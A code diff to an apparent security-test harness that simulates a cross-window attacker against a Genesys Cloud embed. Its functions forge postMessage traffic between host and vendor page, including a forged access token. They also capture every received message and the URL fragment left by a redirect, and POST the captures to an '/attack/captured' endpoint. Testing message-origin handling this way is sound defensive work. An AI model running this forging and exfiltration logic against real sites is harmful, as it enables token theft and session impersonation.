@@ -1,8 +1,8 @@
-/** What an attacker without a foothold can do: post messages to any window it can reach, and keep what it hears. */
+/** What an attacker without a foothold can do: post messages to any window it can reach, and report what it receives. */
 
 const NAMESPACE = "genesys-cloud-embed:";
 
-/** Look-alikes of what the vendor's page says to its host. */
+/** Forged messages of the vendor's page to its host. */
 const TO_HOST = [
   { type: `${NAMESPACE}ready` },
   { type: `${NAMESPACE}session-start`, userId: "mallory" },
@@ -11,14 +11,14 @@ const TO_HOST = [
   { type: `${NAMESPACE}token-expiring`, expiresIn: 1 },
 ];
 
-/** Look-alikes of what the host says to the vendor's page. */
+/** Forged messages of the host to the vendor's page. */
 const TO_VENDOR = [
   { type: "ack", status: "received" },
   { type: `${NAMESPACE}token`, accessToken: "forged", expiresIn: 3600 },
 ];
 
 let sent = 0;
-let caught = 0;
+let captured = 0;
 
 /**
  * @param {string} id
@@ -81,11 +81,11 @@ export function keepAttacking(host, rounds, everyMs) {
  * @param {string} origin
  * @param {unknown} data
  */
-function bring(page, origin, data) {
-  caught += 1;
-  show("caught", caught);
+function report(page, origin, data) {
+  captured += 1;
+  show("captured", captured);
   const body = JSON.stringify({ page, origin, data: data ?? null });
-  void fetch("/attack/loot", {
+  void fetch("/attack/captured", {
     method: "POST",
     headers: { "content-type": "application/json" },
     body,
@@ -94,19 +94,19 @@ function bring(page, origin, data) {
 }
 
 /**
- * Keeps every message, and whatever a redirect left in our own address.
+ * Reports every message, and the fragment that a redirect left in the page's URL.
  *
  * @param {string} page
  */
-export function catchAll(page) {
-  addEventListener("message", (event) => bring(page, event.origin, event.data));
+export function captureAll(page) {
+  addEventListener("message", (event) => report(page, event.origin, event.data));
   if (location.hash !== "") {
-    bring(page, "url", location.hash);
+    report(page, "url", location.hash);
   }
 }
 
 /**
- * A number from our query.
+ * A number from the page's query.
  *
  * @param {string} name
  * @param {number} otherwise
